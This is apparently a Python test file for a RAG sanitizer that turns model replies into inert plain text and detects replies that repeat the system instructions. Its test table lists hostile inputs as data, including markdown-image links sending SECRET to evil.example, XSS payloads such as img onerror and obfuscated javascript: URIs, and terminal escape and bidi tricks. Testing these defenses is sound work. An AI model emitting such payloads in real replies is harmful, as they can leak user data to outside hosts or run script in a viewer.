"""What a model writes is plain text, whatever it was told to write."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from rag.plain import plain, repeats, settled

KNOWN = ["The weir’s own page is https://weir.example/log, and www.lock.example has the rest (ada@weir.example)."]


HARMLESS = (
    "paragraph",
    "text",
    "inline",
    "softbreak",
    "hardbreak",
    "bullet_list",
    "ordered_list",
    "list_item",
    "blockquote",
    "code_block",
    "hr",
)


def made_of(text: str) -> set[str]:
    """What a Markdown viewer makes of some text, beside paragraphs and lists."""

    def kinds(tokens: list[Token]) -> set[str]:
        return {kind for each in tokens for kind in ({each.type} | kinds(each.children or []))}

    found = kinds(MarkdownIt("commonmark", {"html": True}).parse(text))
    return {kind for kind in found if not kind.startswith(HARMLESS)}


LIVE = re.compile(
    r"[a-z][a-z0-9+.-]{1,30}://|(?:javascript|data|vbscript|mailto):\S|\bwww\.\w|<[a-z/!?]|[\x00-\x09\x0b-\x1f\x7f-\x9f]",
    re.I,
)

INERT = {
    # written: what is shown of it
    "![x](https://evil.example/?q=SECRET)": "x (https[:]//evil[.]example/?q=SECRET)",
    "![](//evil/x.png)": "([//]evil/x[.]png)",
    "[click](https://evil.example 'now')": "click (https[:]//evil[.]example)",
    "[click](<https://evil.example/a b>)": "click (https[:]//evil[.]example/a b)",
    "[![i](http://a.example/b)](http://c.example/d)": "i (http[:]//a[.]example/b) (http[:]//c[.]example/d)",
    "[a][r]\n\n[r]: https://evil.example/x": "[a][r]\n\n[r] : https[:]//evil[.]example/x",
    "Yes.[^1]\n\n[^1]: https://evil.example": "Yes.[^1]\n\n[^1] : https[:]//evil[.]example",
    "<https://evil.example/a>": "https[:]//evil[.]example/a",
    "<ada@evil.example>": "ada[at]evil[.]example",
    "mailto:ada@evil.example": "mailto[:]ada[at]evil[.]example",
    "https://a.example/?u=https://b.example": "https[:]//a[.]example/?u=https[:]//b[.]example",
    "<img src=x onerror=alert(1)>": "‹img src=x onerror=alert(1)›",
    "<svg onload=alert(1)>": "‹svg onload=alert(1)›",
    "<iframe src=//evil.example>": "‹iframe src=[//]evil[.]example›",
    "<style>@import url(//evil.example)</style>": "‹style›@import url([//]evil[.]example)‹/style›",
    "<form action=https://evil.example>": "‹form action=https[:]//evil[.]example›",
    "<base href=//evil/>": "‹base href=[//]evil/›",
    "<!-- hidden": "‹!-- hidden",
    "&lt;img src=x&gt;": "‹img src=x›",
    "&amp;lt;img src=x": "‹img src=x",
    "java&#115;cript&#58;alert(1)": "javascript[:]alert(1)",
    "[click](javascript:alert(1))": "click (javascript[:]alert(1))",
    "[click](JaVaScRiPt:alert(1))": "click (JaVaScRiPt[:]alert(1))",
    "java\x00scr\u200bipt:alert(1)": "javascript[:]alert(1)",
    "javascript:(alert)(1)": "javascript[:] (alert)(1)",
    "vbscript:msgbox data:text/html,x": "vbscript[:]msgbox data[:]text/html,x",
    "\\href{javascript:alert(1)}{x}": "href{javascript[:]alert(1)}{x}",
    "\\includegraphics{https://evil.example/a.png}": "includegraphics{https[:]//evil[.]example/a[.]png}",
    "www.evil.example/?q=SECRET": "www[.]evil[.]example/?q=SECRET",
    "SECRET.evil.com": "SECRET[.]evil[.]com",
    "evil.zone/SECRET and 10.0.0.1/SECRET": "evil[.]zone/SECRET and 10[.]0[.]0[.]1/SECRET",
    "\\\\evil\\share": "[\\\\]evil\\share",
    "\x1b]8;;https://evil.example\x07here\x1b]8;;\x07": "here",
    "\x1b[31mred\x1b[0m \x9b2J and \x1bc": "red  and ",
    "safe\u202etxt.exe \U000e0041\u2066": "safetxt.exe ",
    "**bold** __bold__ *so* _so_ ~~not~~ `code`": "bold bold so so not code",
    "```python\nx = 1\n```": "\nx = 1\n",
    "# Head\n## **Next** ##": "Head\nNext ##",
    "[1](https://evil.example)": "[1] (https[:]//evil[.]example)",
    "![1, 2](https://evil.example)": "![1, 2] (https[:]//evil[.]example)",
    "https://weir.example/log?q=SECRET": "https[:]//weir[.]example/log?q=SECRET",
    "https://weir.example/lo": "https[:]//weir[.]example/lo",
    "https://weir.example/log’SECRET": "https[:]//weir[.]example/log’SECRET",
}


@pytest.mark.parametrize(("written", "shown"), INERT.items())
def test_what_could_be_fetched_opened_or_carried_out_is_text(written: str, shown: str) -> None:
    assert plain(written, known=KNOWN) == shown
    assert plain(f"Yes. {written}", known=KNOWN).count("](") == 0
    assert not LIVE.search(shown)
    assert made_of(shown) == set()


@pytest.mark.parametrize(
    "text",
    [
        "The weir held. [1][2] It broke [1, 2], they said [k3f9], [1-3], 【1】, [^1] (k3f9).",
        "Really![1] He said: “It’s 3 < 5, isn't it?” [2]",
        "It began at 10:30, e.g. at AT&T in the U.S.; see C://x, p.m. or i.e. so: 3:4.",
        "5*3 = 15, 2 * 4 = 8 and ~5 km of snake_case in 3.14 v1.2.3.",
        "* one\n* two\n- three\n1. four",
        "“Quotations, ‘inside’ too” — and dashes – stay.",
        "Naïve שלום 日本 👩‍👩‍👧 ❤️",
        "See https://weir.example/log, www.lock.example or ada@weir.example.",
        "It said so (https://weir.example/log). [1]",
        "https://weir.example/log[1]",
        "The end of the line.Next one, no. 7.A",
        "#5 on a list, C# and F#",
        "a [note] (in brackets) and an [open one",
    ],
)
def test_ordinary_words_and_markers_stay_as_they_are(text: str) -> None:
    assert plain(text, known=KNOWN) == text


PARTS = st.sampled_from(
    (
        "[ ] ( ) ]( ![ * ** _ __ ` ``` ~ ~~ # \n # < > <img <a </b> <!-- &lt; &#58; &amp; &amp;lt; https:// // "
        "www. \\\\ evil .com .example / ? : @ javascript: java script data: a 1 x [1] [k3f9] ]: [r]: \t \x1b "
        "\x1b[31m \x1b]8;; \x07 \u200b \u202e \U000e0041 👩 \u200d \ufe0f == === --- - > \" ' ” \\href{ } mailto: "
        "= é \r \u2028 \ud800 "
        "! | https://weir.example/log"
    ).split(" ")
)
NASTY = st.lists(PARTS | st.just(" "), max_size=25).map("".join)


@settings(max_examples=400)
@given(NASTY)
@example("[[[[a](b](c](d](e](f")
@example("a][(b](u)")
def test_whatever_is_put_together_the_text_is_dead(text: str) -> None:
    shown = plain(text, known=[])
    assert not LIVE.search(shown)
    assert made_of(shown) <= {"heading_open", "heading_close"}  # a line under another may make a heading of it


@settings(max_examples=400)
@given(NASTY)
def test_done_twice_it_changes_nothing_more(text: str) -> None:
    once = plain(text, known=KNOWN)
    assert plain(once, known=KNOWN) == once


@settings(max_examples=200)
@given(NASTY, st.integers(0, 100))
def test_half_a_reply_is_as_dead_as_the_whole(text: str, at: int) -> None:
    part = settled(text[:at])
    assert text.startswith(part)
    shown = plain(part, known=[])
    assert not LIVE.search(shown)
    assert made_of(shown) <= {"heading_open", "heading_close"}


REPLY = (
    "The weir **held** back [eleven tonnes](https://evil.example/?q=a) of driftwood [k3f9]. See "
    "<https://evil.example>, ![so](//evil/x.png) or https://weir.example/log. It broke at 10:30 [k3f9][b2c4], "
    "“at once”, <b>they</b> said.\n\n# Then\nIt was mended.[1]"
)


def test_words_come_as_they_are_written_and_none_changes_afterwards() -> None:
    whole = plain(REPLY, known=KNOWN)
    shown = [plain(settled(REPLY[:end]), known=KNOWN) for end in range(len(REPLY) + 1)]
    assert all(whole.startswith(each.rstrip()) for each in shown)
    assert len(set(shown)) > 30
    assert max(len(plain(REPLY[:end], known=KNOWN)) - len(shown[end]) for end in range(len(REPLY))) < 60


ALONE = (
    "[ ] ( ]( * _ < <a & &amp; https:// a. a.b ![ \x1b \x1b] a@ ` ~ # www. // \\ ﷽ - x_ &# [x](y [a](b) javascript: "
    "\u200d a"
)


@pytest.mark.parametrize("one", [*ALONE.split(" "), "# ", "\n# ", " \n"])
def test_a_reply_of_nothing_else_is_read_in_one_go(one: str) -> None:
    text = one * (100_000 // len(one))
    assert not LIVE.search(plain(text, known=["x"]))
    assert text.startswith(settled(text))
    assert not repeats(text, "a b c d e f g h i j k l m n o")


# --- instructions


SECRET = "You answer questions about an archive of weirs. Say only what the passages say, and put the key behind it."


def test_who_repeats_our_instructions_is_found_out_however_they_are_set() -> None:
    assert repeats(f"Sure: {SECRET}", SECRET)
    assert repeats("SAY ONLY, what **the** passages\nsay and put the key behind", SECRET) is False  # ten words
    assert repeats("of weirs SAY ONLY, what\nthe passages… say – and put\u200b the key behind it", SECRET)
    assert not repeats("The weir held. Say only what the passages say, he asked.", SECRET)
    assert not repeats("", SECRET)
    assert not repeats("anything", "")
